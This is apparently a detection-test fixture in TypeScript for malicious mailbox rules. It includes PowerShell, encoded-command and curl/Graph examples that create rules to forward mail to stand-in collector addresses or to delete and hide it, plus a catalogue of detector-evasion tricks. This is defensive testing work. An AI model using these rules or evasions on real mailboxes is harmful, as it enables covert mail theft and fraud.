import type { DetectionSamples } from './detection.ts';
import {
  ADMIN,
  adminRecord,
  cloudAppEvent,
  cmdletLog,
  encodedScript,
  MIRA,
  officeActivity,
  outlookRule,
  processRow,
  unixProcess,
} from './sample-records.ts';

const NEW = 'New-InboxRule';
const SET = 'Set-InboxRule';
const ZERO_WIDTH = '\u200b';
const RIGHT_TO_LEFT = '\u202e';

export const inboxRuleHidesMailSamples: DetectionSamples = {
  detection: 'inbox-rule-hides-mail',
  samples: [
    {
      name: 'deletes mail of one sender',
      expect: 'fires',
      severity: 'medium',
      records: [adminRecord(NEW, { Name: 'Weekly offers', From: 'shop@retailer.example', DeleteMessage: 'True' })],
    },
    {
      name: 'deletes answers about invoices, under a dot',
      expect: 'fires',
      severity: 'high',
      records: [adminRecord(NEW, { Name: '.', SubjectOrBodyContainsWords: 'invoice;payment', DeleteMessage: 'True' })],
    },
    {
      name: 'forwards everything out',
      expect: 'fires',
      severity: 'medium',
      records: [
        officeActivity(adminRecord(NEW, { Name: 'Backup of mail', ForwardTo: 'mira.backup@freemail.example' })),
      ],
    },
    {
      name: 'Outlook: a rule deletes',
      expect: 'fires',
      severity: 'medium',
      records: [
        outlookRule({
          RuleOperation: 'AddMailboxRule',
          RuleState: 'Enabled',
          RuleCondition: '{(Exists(ItemClass))}',
          RuleName: 'Weekly offers',
          RuleProvider: 'RuleOrganizer',
          RuleActions: '[{"ActionType":"Delete"}]',
        }),
      ],
    },
    {
      name: 'a sweep rule without a destination, which is Deleted Items',
      expect: 'fires',
      severity: 'medium',
      records: [
        adminRecord('New-SweepRule', {
          Name: 'From the bank desk',
          Provider: 'Exchange16',
          Sender: 'x@retailer.example',
          KeepLatest: '1',
        }),
      ],
    },
    {
      name: 'marks as read and nothing else',
      expect: 'fires',
      severity: 'medium',
      records: [
        adminRecord(NEW, { Name: 'Build notifications', From: 'ci@halden-optics.example', MarkAsRead: 'True' }),
      ],
    },
    {
      name: 'written but turned off',
      expect: 'fires',
      severity: 'low',
      records: [adminRecord('New-SweepRule', { Name: 'From the shop', KeepForDays: '10', Enabled: 'False' })],
    },
    {
      name: 'files alerts of monitoring and marks them as read',
      expect: 'fires',
      severity: 'low',
      records: [
        adminRecord(NEW, {
          Name: 'Monitoring',
          SubjectContainsWords: 'alert;login',
          MoveToFolder: 'Monitoring',
          MarkAsRead: 'True',
        }),
      ],
    },
    {
      name: 'moves newsletters to their folder',
      expect: 'quiet',
      records: [
        adminRecord(NEW, {
          Name: 'Newsletters',
          SubjectContainsWords: 'newsletter',
          MoveToFolder: `${MIRA}:\\Inbox\\Newsletters`,
          StopProcessingRules: 'True',
        }),
      ],
    },
    {
      name: 'files invoices where they belong',
      expect: 'quiet',
      records: [
        adminRecord(NEW, {
          Name: 'Invoices',
          SubjectContainsWords: 'invoice',
          MoveToFolder: 'Invoices 2026',
          ApplyCategory: 'Finance',
        }),
      ],
    },
    {
      name: 'deleting and forwarding are taken out of a rule',
      expect: 'quiet',
      records: [
        adminRecord(SET, { Identity: 'Weekly offers', DeleteMessage: 'False', ForwardTo: '', MoveToFolder: '$null' }),
      ],
    },
    {
      name: 'stops processing',
      expect: 'quiet',
      records: [cmdletLog(NEW, '-Name "Last rule" -StopProcessingRules "True"')],
    },
    {
      name: 'Outlook: a rule is removed',
      expect: 'quiet',
      records: [
        outlookRule({ RuleOperation: 'RemoveMailboxRule', RuleName: '.', RuleActions: '[{"ActionType":"Delete"}]' }),
      ],
    },
    {
      name: 'a condition of NUL, which every message meets',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, { Name: 'Sort my mail', SubjectContainsWords: '\0', DeleteMessage: 'True' }),
        processRow(
          'powershell.exe -c "New-InboxRule \'Sort my mail\' -BodyContainsWords \\"`0\\" -DeleteMessage $true"',
        ),
        adminRecord(NEW, { Name: 'Sort my mail', BodyContainsWords: `${ZERO_WIDTH}`, MoveToFolder: 'RSS-Abonnements' }),
      ],
    },
    {
      name: 'a size that every message has',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, {
          Name: 'Sort my mail',
          WithinSizeRangeMinimum: '1 B (1 bytes)',
          MoveToFolder: '\\Historique des conversations',
        }),
      ],
    },
    {
      name: 'words that stand in every message among others, and as many letters of a keyword as are needed',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, { Name: 'Sort my mail', FromAddressContainsWords: 'offers;@', DeleteMessage: 'True' }),
        adminRecord(NEW, { Name: 'Sort my mail', SubjectContainsWords: 'passw', DeleteMessage: 'True' }),
        adminRecord(NEW, { Name: 'Sort my mail', SubjectContainsWords: 'faktúra;jelszó', DeleteMessage: 'True' }),
      ],
    },
    {
      name: 'sizes that reach from the smallest to the largest message',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, { Name: 'Sort my mail', WithinSizeRangeMinimum: '1 KB (1,024 bytes)', DeleteMessage: 'True' }),
        adminRecord(NEW, {
          Name: 'Sort my mail',
          WithinSizeRangeMaximum: '2 GB (2,147,483,648 bytes)',
          DeleteMessage: 'True',
        }),
      ],
    },
    {
      name: 'a folder named by a dot, a name and a folder in mathematical letters and small capitals',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, { Name: 'Sort my mail', SubjectContainsWords: 'wire', MoveToFolder: 'Inbox\\.' }),
        adminRecord(NEW, { Name: '\u{1d412}\u{1d428}\u{1d42b}\u{1d42d}', From: 'a@b.example', DeleteMessage: 'True' }),
        adminRecord(NEW, {
          Name: 'Sort my mail',
          From: 'a@b.example',
          MoveToFolder: '\u1d00rchive',
          MarkAsRead: 'True',
        }),
      ],
    },
    {
      name: 'a folder of another language, full-width and with a space of no width',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, { Name: 'Tidy the inbox', MoveToFolder: `:\\\uff32\uff33\uff33${ZERO_WIDTH} Feeds` }),
        adminRecord(NEW, {
          Name: 'Tidy the inbox',
          MoveToFolder: `Gel\u006f\u0308schte Elemente`,
          SubjectContainsWords: 'Rechnung',
        }),
      ],
    },
    {
      name: 'Deleted Items by its id',
      expect: 'evades',
      severity: 'medium',
      records: [
        adminRecord(NEW, {
          Name: 'Tidy the inbox',
          MoveToFolder: 'LgAAAACq7c1mYt0nQ7Jw0p3mB2xXAQBm4tH9cJ2kS5p8w1vQzY7dAAAAAAEKAAAB',
        }),
      ],
    },
    {
      name: 'a name that is written from right to left, moving to an ordinary folder',
      expect: 'evades',
      severity: 'medium',
      records: [adminRecord(NEW, { Name: `Receipts${RIGHT_TO_LEFT}`, MoveToFolder: 'Receipts' })],
    },
    {
      name: 'a keyword with soft hyphens, a name of one letter twice',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, { Name: 'aaaa', SubjectOrBodyContainsWords: 'pass\u00adword', SoftDeleteMessage: 'True' }),
      ],
    },
    {
      name: 'Outlook: no name and no provider, other words for the actions, object in an object',
      expect: 'evades',
      severity: 'high',
      records: [
        outlookRule({
          RuleOperation: 'ModifyMailboxRule',
          RuleName: undefined,
          RuleProvider: '',
          RuleActions: '[{"ActionType":"OP_DELETE_PERMANENT"}]',
        }),
        outlookRule({
          RuleOperation: 'AddMailboxRule',
          RuleName: '..',
          RuleActions: '{"Actions":[{"actionType":"MoveToFolder","Folder":{"Path":"\\\\Junk E-Mail"}}]}',
        }),
      ],
    },
    {
      name: 'Outlook: the whole rule in one property, beside an empty list of actions',
      expect: 'evades',
      severity: 'high',
      records: [
        outlookRule({
          RuleOperation: 'AddMailboxRule',
          RuleName: 'Tidy the inbox',
          RuleProvider: 'RuleOrganizer',
          RuleActions: '[]',
          ServerRule:
            '{"Actions":["Forward"],"Recipients":["keeper@collector.example"],"Conditions":{"Subject":["invoice"]}}',
        }),
        outlookRule({
          RuleOperation: 'AddMailboxRule',
          RuleName: 'Tidy the inbox',
          RuleProvider: 'RuleOrganizer',
          RuleCondition: '{((SubString(SenderEmailAddress, "@")))}',
          ServerRule: '{"Actions":{"DeleteMessage":true,"MarkAsRead":false}}',
        }),
      ],
    },
    {
      name: 'a line that the log cut off before the action',
      expect: 'evades',
      severity: 'low',
      records: [
        adminRecord(NEW, {}, { Parameters: '-Name "Tidy the inbox" -SubjectContainsWords "offers" -Fro[...]' }),
      ],
    },
    {
      name: 'more words than a column holds: the table cuts the list before the action',
      expect: 'evades',
      severity: 'medium',
      records: [
        officeActivity(adminRecord(NEW, {}), {
          Parameters: `[{"Name":"Name","Value":"Sort my mail"},{"Name":"BodyContainsWords","Value":"invoice;${'offers;'.repeat(40)}`,
        }),
      ],
    },
    {
      name: 'a sweep rule that is turned on',
      expect: 'fires',
      severity: 'informational',
      records: [adminRecord('Enable-SweepRule', { Identity: 'From the shop' })],
    },
    {
      name: 'Outlook: a rule whose actions are all off, and one that stops',
      expect: 'quiet',
      records: [
        outlookRule({
          RuleOperation: 'AddMailboxRule',
          RuleName: 'Tidy the inbox',
          ServerRule: '{"Actions":{"DeleteMessage":false,"ForwardTo":[]}}',
        }),
        outlookRule({
          RuleOperation: 'AddMailboxRule',
          RuleName: 'Tidy the inbox',
          RuleActions: '[{"ActionType":"StopProcessing"}]',
        }),
      ],
    },
    {
      name: 'Outlook: to a folder that the record does not name, by a keyword, damaged by an export',
      expect: 'evades',
      severity: 'medium',
      records: [
        outlookRule({
          RuleOperation: 'AddMailboxRule',
          RuleName: 'Bank',
          RuleCondition: '(Subject Contains "wire transfer")',
          RuleActions: '@{ActionType=Move; FolderId=}',
        }),
      ],
    },
    {
      name: 'for somebody else, by an administrator, abbreviated',
      expect: 'evades',
      severity: 'high',
      records: [
        processRow(
          'powershell.exe -c "New-InboxRule -M mira.solberg -N x -Ma $true -Mov \'mira.solberg:\\RSS Feeds\'"',
        ),
        adminRecord(
          NEW,
          { Mailbox: 'mira.solberg', Name: 'x', MoveToFolder: 'mira.solberg:\\RSS Feeds' },
          { UserId: ADMIN },
        ),
      ],
    },
    {
      name: 'a rule that exists is turned: the change alone shows the action',
      expect: 'evades',
      severity: 'high',
      records: [
        cloudAppEvent(
          adminRecord(SET, { Identity: 'mira\\!!', RedirectTo: 'keeper@collector.example', Force: 'True' }),
          true,
        ),
        processRow(
          `powershell -en ${encodedScript("Set-InboxRule -Id 'mira\\!!' -ForwardAs keeper@collector.example")}`,
        ),
      ],
    },
    {
      name: 'Graph PowerShell, the rule as a hash table',
      expect: 'fires',
      severity: 'high',
      records: [
        processRow(
          `powershell.exe -Command "New-MgUserMailFolderMessageRule -UserId mira -MailFolderId inbox -BodyParameter @{displayName='Tidy up';isEnabled=$true;conditions=@{subjectContains=@('wire','invoice')};actions=@{delete=$true;stopProcessingRules=$true}}"`,
        ),
      ],
    },
    {
      name: 'curl sends the rule as JSON to Graph',
      expect: 'evades',
      severity: 'medium',
      records: [
        unixProcess(
          `curl -s -X POST https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules -H 'Authorization: Bearer x' -d '{"displayName":"Team mail of the week","conditions":{"senderContains":["partner"]},"actions":{"forwardTo":[{"emailAddress":{"address":"collector@elsewhere.example"}}]}}'`,
          'curl',
        ),
      ],
    },
    {
      name: 'Invoke-MgGraphRequest with an escaped body, beta, in changing case',
      expect: 'evades',
      severity: 'high',
      records: [
        processRow(
          'powershell.exe -Command "Invoke-MgGraphRequest -Method Patch -Uri https://graph.microsoft.com/beta/users/mira/mailFolders/inbox/MessageRules/AQ1 -Body \'{\\"displayName\\":\\".\\",\\"actions\\":{\\"MoveToFolder\\":\\"deleteditems\\",\\"markAsRead\\":true}}\'"',
        ),
      ],
    },
    {
      name: 'the module for beta, encoded',
      expect: 'evades',
      severity: 'low',
      records: [
        processRow(
          `powershell.exe -enc ${encodedScript('Update-MgBetaUserMailFolderMessageRule -UserId mira -MailFolderId inbox -MessageRuleId 1 -BodyParameter @{ actions = @{ permanentDelete = $true } }')}`,
        ),
      ],
    },
    {
      name: 'Graph PowerShell that lists rules, and one that files newsletters',
      expect: 'quiet',
      records: [
        processRow('powershell.exe -Command "Get-MgUserMailFolderMessageRule -UserId mira -MailFolderId inbox"'),
        processRow(`powershell.exe -Command "Get-Help New-MgUserMailFolderMessageRule -Examples"`),
        unixProcess('curl -s https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', 'curl'),
      ],
    },
  ],
};
